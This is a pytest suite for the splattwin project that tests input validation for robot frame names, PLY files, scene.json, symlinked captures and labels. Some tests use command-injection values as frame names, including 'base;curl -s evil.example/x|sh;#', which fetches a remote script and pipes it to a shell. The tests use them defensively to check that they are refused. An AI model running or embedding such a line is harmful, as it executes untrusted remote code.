"""Audit 8B: a robot root body that is no TF frame id (shell line and YAML keys in base_transform.yaml),
splat PLYs whose log-scales overflow, quaternions float32 cannot hold and duplicate header properties,
scene.json of the wrong shape (prompt labels, scene goal), symlinked captures saved without bundling, a
stray labelled splat sizing an obstacle box and the table, labels beyond 16 bits. Each is refused with an
InputError naming the file (or handled), never an internal error or a half-written output."""

from __future__ import annotations

import json
import warnings
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest

from splattwin.errors import InputError

PROPS = ["x", "y", "z", "f_dc_0", "f_dc_1", "f_dc_2", "opacity", "scale_0", "scale_1", "scale_2",
         "rot_0", "rot_1", "rot_2", "rot_3"]


def _ply(path: Path, props, rows) -> Path:
    hdr = ("ply\nformat binary_little_endian 1.0\nelement vertex %d\n" % len(rows)
           + "".join("property float %s\n" % n for n in props) + "end_header\n")
    path.write_bytes(hdr.encode() + np.asarray(rows, dtype="<f4").tobytes())
    return path


def _gaussians(n=1, **kw):
    from splattwin.splat.gaussians import Gaussians

    d = dict(means=np.zeros((n, 3)), quats=np.tile([1.0, 0, 0, 0], (n, 1)), scales=np.full((n, 3), 0.01),
             opacities=np.full(n, 0.5), sh=np.zeros((n, 1, 3)))
    d.update(kw)
    return Gaussians(**d)


# -- F9: the base frame named by the MJCF's root body --------------------------------------------------
@pytest.mark.parametrize("root", ["base;curl -s evil.example/x|sh;#", "base\nchild_frame_id: evil_frame\n#",
                                  "base link", "twin", "/base", ""])
def test_root_body_that_is_no_frame_id_is_refused_as_base_frame(root):
    from splattwin.robot.export import export_names

    for naming in (None, "model", "a1,a2"):
        with pytest.raises(InputError, match="--base-frame"):
            export_names(naming, ["j1", "j2"], root, default_model=False)
    # --base-frame names the base instead, and the Panda namings have their own: the root body is unused
    assert export_names(None, ["j1", "j2"], root, False, base_frame="base_link").base_frame == "base_link"
    j7 = [f"joint{i}" for i in range(1, 8)]
    assert export_names("panda", j7, root, default_model=False).base_frame == "panda_link0"
    assert export_names(None, ["j1"], "link0", default_model=False).base_frame == "link0"


@pytest.mark.parametrize("joint", ["j2\nevil: 1", "j2: [1]", "2j", "j 2", ""])
def test_mjcf_joint_names_that_are_no_ros_names_are_refused_with_the_model_naming(joint):
    """With --joint-names model the MJCF's own joint names go into the trajectory files and goals: a name
    from a file, held to the ROS name tokens a --joint-names list is held to."""
    from splattwin.robot.export import export_names

    with pytest.raises(InputError, match="--joint-names with 2 names"):
        export_names("model", ["j1", joint], "link0", default_model=False)
    assert export_names("a1,a2", ["j1", joint], "link0", default_model=False).joint_names == ("a1", "a2")
    assert export_names("model", ["j1", "j_2"], "link0", default_model=False).joint_names == ("j1", "j_2")


def test_base_frame_writers_refuse_and_quote_what_is_no_frame_id(tmp_path):
    from splattwin.robot.export import static_transform_args, write_base_transform

    evil = "base;curl -s evil.example/x|sh;#"
    for f in (lambda: static_transform_args(np.eye(4), evil),
              lambda: write_base_transform(tmp_path / "base_transform.yaml", np.eye(4), evil)):
        with pytest.raises(InputError, match="TF frame id"):
            f()
    assert not (tmp_path / "base_transform.yaml").exists()
    # valid ids are written as before (shlex.quote leaves them unquoted)
    assert static_transform_args(np.eye(4), "robot1/panda_link0").endswith("--child-frame-id robot1/panda_link0")


# -- F1, F2, F3: splat PLYs -----------------------------------------------------------------------
def test_log_scale_overflowing_exp_is_refused_naming_the_file_without_numpy_warning(tmp_path):
    from splattwin.splat.gaussians import Gaussians

    p = _ply(tmp_path / "big_logscale.ply", PROPS, [[0, 0, 0, 0, 0, 0, 0, 1000, 0, 0, 1, 0, 0, 0]])
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        with pytest.raises(InputError, match="log-scale") as e:
            Gaussians.load_ply(p)
    assert "big_logscale.ply" in str(e.value)
    # a very negative opacity logit still loads (opacity 0), without a numpy warning either
    q = _ply(tmp_path / "transparent.ply", PROPS, [[0, 0, 0, 0, 0, 0, -1000, -4, -4, -4, 1, 0, 0, 0]])
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert Gaussians.load_ply(q).opacities[0] == 0.0


@pytest.mark.parametrize("q", [[1e-50, 0, 0, 0], [1e-46, 1e-46, 0, 0], [0, 0, -1e-300, 0], [1e300, 1e300, 0, 0]])
def test_quaternion_float32_cannot_hold_is_normalised_so_the_file_loads(tmp_path, q):
    from splattwin.splat.gaussians import Gaussians

    q = np.array([q], dtype=float)
    p = _gaussians(quats=q).save_ply(tmp_path / "q.ply")
    back = Gaussians.load_ply(p)
    want = q / np.linalg.norm(q / np.abs(q).max()) / np.abs(q).max()
    np.testing.assert_allclose(back.quats, want, atol=1e-7)


def test_valid_quaternions_are_stored_as_given(tmp_path):
    from splattwin.splat.ply import read_ply_vertices

    q = np.array([[1.0, 0, 0, 0], [0.5, 0.5, 0.5, 0.5], [2.0, 0, 0, 0], [1e-30, 3e-31, 0, 0]])
    p = _gaussians(4, quats=q).save_ply(tmp_path / "ok.ply")
    v = read_ply_vertices(p)
    stored = np.stack([v[f"rot_{i}"] for i in range(4)], axis=1)
    assert np.array_equal(stored, q.astype(np.float32).astype(np.float64))


def test_duplicate_ply_property_is_refused_naming_the_file(tmp_path):
    from splattwin.splat.gaussians import Gaussians

    p = _ply(tmp_path / "dup.ply", PROPS + ["x"], [[0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0]])
    with pytest.raises(InputError, match="property 'x' twice") as e:
        Gaussians.load_ply(p)
    assert "dup.ply" in str(e.value)


def test_duplicate_ply_property_exits_2_on_the_cli(tmp_path, cli):
    p = _ply(tmp_path / "dup.ply", PROPS + ["x"], [[0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0]])
    res = cli("geometry", p, "--out", tmp_path / "out")
    assert res.rc == 2 and "dup.ply" in res.err and "twice" in res.err


# -- F4: prompt_labels' scene.json -------------------------------------------------------------------
@pytest.mark.parametrize("scene, needle", [
    ([], "JSON object"), ({"objects": "x"}, "must be a list"),
    ({"objects": [{"name": "blue_box", "label": "two", "prompt": "blue box"}]}, "label"),
    ({"objects": [{"name": "blue_box", "label": 10**30, "prompt": "blue box"}]}, "label"),
    ({"objects": [{"name": "blue_box", "label": None, "prompt": "blue box"}]}, "label")])
def test_prompt_labels_refuses_malformed_scene_json(tmp_path, scene, needle):
    from splattwin.semantics.lift import prompt_labels

    (tmp_path / "scene.json").write_text(json.dumps(scene))
    ds = SimpleNamespace(meta={"label_objects": {"blue_box": 2}}, root=tmp_path)
    with pytest.raises(InputError, match=needle) as e:
        prompt_labels(ds, "blue box")
    assert "scene.json" in str(e.value)


def test_prompt_labels_reads_a_valid_scene_json_as_before(tmp_path):
    from splattwin.semantics.lift import prompt_labels

    (tmp_path / "scene.json").write_text(json.dumps({"objects": [
        {"name": "table", "label": 0}, {"name": "blue_box", "label": 2, "prompt": "Blue Box"},
        {"name": "mug", "label": 3}, "not an object", {"name": ["x"], "label": 9}]}))
    ds = SimpleNamespace(meta={"label_objects": {"blue_box": 2, "mug": 3}}, root=tmp_path)
    assert prompt_labels(ds, "blue box . mug") == {"blue box": 2, "mug": 3}
    assert prompt_labels(ds, "red ball") is None


@pytest.mark.parametrize("label", ["2", 2.0, True])
def test_scene_json_labels_are_held_to_the_projects_integer_check(tmp_path, label):
    """int() takes "2", 2.0 and True; the project's integer check (`masks.whole_number`) refuses them, and both
    readers of scene.json (prompt_labels' and scene_objects) now agree on it, naming the file."""
    from splattwin.semantics.lift import prompt_labels
    from splattwin.semantics.masks import scene_objects

    (tmp_path / "scene.json").write_text(json.dumps({"objects": [
        {"name": "blue_box", "label": label, "prompt": "blue box"}]}))
    ds = SimpleNamespace(meta={"label_objects": {"blue_box": 2}}, root=tmp_path)
    for read in (lambda: prompt_labels(ds, "blue box"), lambda: scene_objects(tmp_path)):
        with pytest.raises(InputError, match="label of object 'blue_box' must be a whole number") as e:
            read()
        assert "scene.json" in str(e.value)


# -- F5: a capture of symbolic links, saved without bundling ------------------------------------------
def test_linked_files_outside_the_folder_count_as_outside(tmp_path):
    from splattwin.capture import nerfstudio

    elsewhere, out = tmp_path / "photos_elsewhere", tmp_path / "cap"
    elsewhere.mkdir()
    (out / "images").mkdir(parents=True)
    (elsewhere / "a.png").write_bytes(b"x")
    (out / "images" / "a.png").symlink_to(elsewhere / "a.png")
    (out / "images" / "b.png").write_bytes(b"x")
    frame = lambda p: SimpleNamespace(image_path=p, depth_path=None, mask_path=None, label_path=None)  # noqa: E731
    ds = SimpleNamespace(frames=[frame(out / "images" / "a.png"), frame(out / "images" / "b.png")])
    assert nerfstudio.outside_files(ds, out) == [out / "images" / "a.png"]
    with pytest.raises(InputError, match="outside"):
        nerfstudio.write(ds, out / "transforms.json", confine=True)
    assert not (out / "transforms.json").exists()
    # a link inside the folder to a file inside it is fine, as the reader finds
    (out / "images" / "c.png").symlink_to(out / "images" / "b.png")
    assert nerfstudio.outside_files(SimpleNamespace(frames=[frame(out / "images" / "c.png")]), out) == []


# -- F6: a stray labelled splat ------------------------------------------------------------------------
def _stray_scene(far: float, nobj: int = 10):
    rng = np.random.default_rng(0)
    nt = 20000
    tab = np.c_[rng.uniform(-0.5, 0.5, nt), rng.uniform(-0.4, 0.4, nt), rng.normal(0, 0.001, nt)]
    obj = np.c_[rng.uniform(-0.01, 0.01, nobj), rng.uniform(-0.01, 0.01, nobj), rng.uniform(0.0, 0.03, nobj)]
    means = np.r_[tab, obj, [[far, 0.0, 0.01]]]
    n = len(means)
    g = _gaussians(n, means=means, scales=np.full((n, 3), 0.004), opacities=np.full(n, 0.9))
    return g, np.r_[np.zeros(nt, int), np.ones(nobj + 1, int)]


def test_stray_splat_neither_sizes_the_obstacle_box_nor_grows_the_table(tmp_path):
    from splattwin.geometry.options import GeometryOptions
    from splattwin.poses.twin_frame import TwinFrame
    from splattwin.twin import build_twin

    g, labels = _stray_scene(9e5)
    man = build_twin(g, labels, [("cube", 1, "")], tmp_path / "twin", frame=TwinFrame(scaled=True),
                     options=GeometryOptions(), formats=(), progress=False)
    cube = man.object("cube")
    assert cube.obstacle_only and max(cube.bbox_extent) < 0.2
    x0, x1, y0, y1 = man.background.table_extent
    assert x1 < 1.0 and y1 < 1.0


def test_obstacle_box_and_table_keep_to_the_scene():
    from splattwin.geometry.convert import (BackgroundGeometry, ObjectGeometry, obstacle_box, scene_bounds,
                                            table_under_objects)
    from splattwin.geometry.options import GeometryOptions

    opts = GeometryOptions().resolved(1.0)
    pts = np.r_[np.random.default_rng(1).uniform(-0.01, 0.01, (10, 3)) + [0, 0, 0.02], [[9e5, 0, 0.01]]]
    within = scene_bounds(np.random.default_rng(2).uniform(-0.5, 0.5, (1000, 3)))
    r = ObjectGeometry(name="cube", label=1, prompt="", usable=False)
    obstacle_box(r, pts, opts, 0.0, within=within)
    assert r.obstacle and max(r.extent) < 0.2
    far = ObjectGeometry(name="far", label=2, prompt="", usable=False)
    obstacle_box(far, pts, opts, 0.0)   # no bound given: as before
    assert far.extent[0] > 8e5
    bg = BackgroundGeometry(indices=np.zeros(0, np.int64), plane=None, table_height=0.0,
                            table_extent=[-0.5, 0.5, -0.4, 0.4], table_thickness=0.03, collision=None, parts=[])
    assert table_under_objects(bg, [far], opts.foot_gap, 0.02, within=within) == []
    assert bg.table_extent == [-0.5, 0.5, -0.4, 0.4]


def test_conversion_the_manifest_refuses_writes_no_part(tmp_path):
    from splattwin.geometry.convert import convert
    from splattwin.poses.twin_frame import TwinFrame
    from splattwin.twin.build import write_geometry

    g, labels = _stray_scene(0.05)
    conv = convert(g, labels, [("cube", 1, "")], progress=False)
    cube = conv.objects[0]
    cube.T_world_obj = np.eye(4)
    cube.T_world_obj[0, 3] = 3e6
    out = tmp_path / "twin"
    out.mkdir()
    with pytest.raises(InputError, match="T_world_obj"):
        write_geometry(conv, g, labels, out, TwinFrame(scaled=True))
    assert list(out.iterdir()) == []


# -- F7: labels beyond 16 bits -----------------------------------------------------------------------------
def test_label_beyond_16_bits_is_refused_before_the_twin_folder(tmp_path, cli):
    from splattwin.twin import build_twin, check_objects

    for label in (65536, 10**23):
        with pytest.raises(InputError, match="65535"):
            check_objects([("cube", label)])
    assert check_objects([("cube", 65535)]) == [("cube", 65535, "")]
    g, labels = _stray_scene(0.05)
    with pytest.raises(InputError, match="65535"):
        build_twin(g, labels, [("cube", 10**23, "")], tmp_path / "twin", progress=False)
    assert not (tmp_path / "twin").exists()
    p = g.save_ply(tmp_path / "g.ply")
    np.save(tmp_path / "labels.npy", labels)
    res = cli("geometry", p, "--labels", tmp_path / "labels.npy", "--object", "cube=100000000000000000000000",
              "--out", tmp_path / "out")
    assert res.rc == 2 and "65535" in res.err and not (tmp_path / "out").exists()


# -- F8: add_scene_goal on a scene.json that is no object ------------------------------------------------
def test_add_scene_goal_refuses_scene_json_that_is_no_object(tmp_path):
    from splattwin.twin import add_scene_goal
    from splattwin.twin.manifest import Background, Manifest

    twin, scene = tmp_path / "twin", tmp_path / "scene"
    twin.mkdir()
    scene.mkdir()
    Manifest(objects=[], background=Background()).save(twin)
    for doc in ([], "x", 3):
        (scene / "scene.json").write_text(json.dumps(doc))
        with pytest.raises(InputError, match="JSON object") as e:
            add_scene_goal(twin, scene)
        assert "scene.json" in str(e.value)


def test_poses_report_read_for_the_init_log_is_bounded(tmp_path, monkeypatch):
    """The splat init log names the points' source from the twin's poses_report.json: a file from elsewhere,
    read within the record bound (too large, or malformed: the source is just unknown)."""
    import types

    import splattwin.limits as limits
    from splattwin.splat.init import poses_points_source

    rep = tmp_path / "poses_report.json"
    rep.write_text('{"points_source": "depth back-projection", "pad": "' + "x" * 4096 + '"}')
    ds = types.SimpleNamespace(meta={"path": str(tmp_path / "transforms.json")}, root=tmp_path)
    (tmp_path / "transforms.json").write_text("{}")
    assert poses_points_source(ds) == "depth back-projection"
    monkeypatch.setattr(limits, "MAX_RECORD_BYTES", 1024)
    assert poses_points_source(ds) is None
    monkeypatch.undo()
    rep.write_text("[1, 2")
    assert poses_points_source(ds) is None
